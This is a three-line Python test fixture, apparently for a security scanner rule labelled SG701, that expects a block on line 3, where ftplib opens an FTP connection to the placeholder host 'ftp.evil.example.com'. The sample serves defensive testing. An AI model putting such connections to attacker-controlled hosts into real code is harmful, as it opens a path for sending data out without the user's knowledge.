# expect: block SG701@3
import ftplib
ftp = ftplib.FTP("ftp.evil.example.com")
